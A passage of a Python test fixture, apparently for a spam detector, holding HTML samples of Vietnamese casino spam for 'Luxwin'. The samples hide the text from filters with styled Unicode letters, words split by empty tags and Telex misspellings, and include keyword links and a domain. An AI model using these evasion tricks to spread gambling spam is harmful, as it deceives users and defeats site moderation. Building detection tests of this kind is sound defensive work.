    "searches kept": "<h2>Từ khóa được tìm nhiều</h2><p><a href='/search?q=luxwin'>luxwin</a> <a href='/search?q=luxwin+dang+nhap'>luxwin đăng nhập</a> <a href='/search?q=tai+luxwin+apk'>tải luxwin apk</a> <a href='/search?q=slot+luxwin'>slot luxwin</a></p>",
    "numbers as art": "<p>Ⓛⓤⓧⓦⓘⓝ ๑ 𝐧𝐡𝐚̀ 𝐜𝐚́𝐢 𝐱𝐚𝐧𝐡 𝐜𝐡𝐢́𝐧 ๑ nạp 𝟏𝟎𝟎𝐤 tặng 𝟏𝟎𝟎𝐤</p>",
    "parts of words": "<p>n<b></b>ổ h<i></i>ũ l<b></b>ớn nhất năm, t<span></span>ài x<span></span>ỉu l<b></b>ive, chơi là tr<i></i>úng</p>",
    "telex": "<p>Nhaf cais Luxwin uy tins nhaats, nool huux ddoori thuowrng, naapj ruts nhanh luxwin.cfd</p>",
}

GROUPS = {"prose": PROSE, "hidden": HIDDEN, "script": SCRIPTS, "head": HEADS, "parasite": PARASITES, "open": OPEN}  # fmt: skip


def planted_cases():
    """Yield (name, html): each piece once, in one of four frames or as the page it is."""
    for group, pieces in GROUPS.items():
        for name, html in framed(pieces):
            yield f"{group}: {name}", html
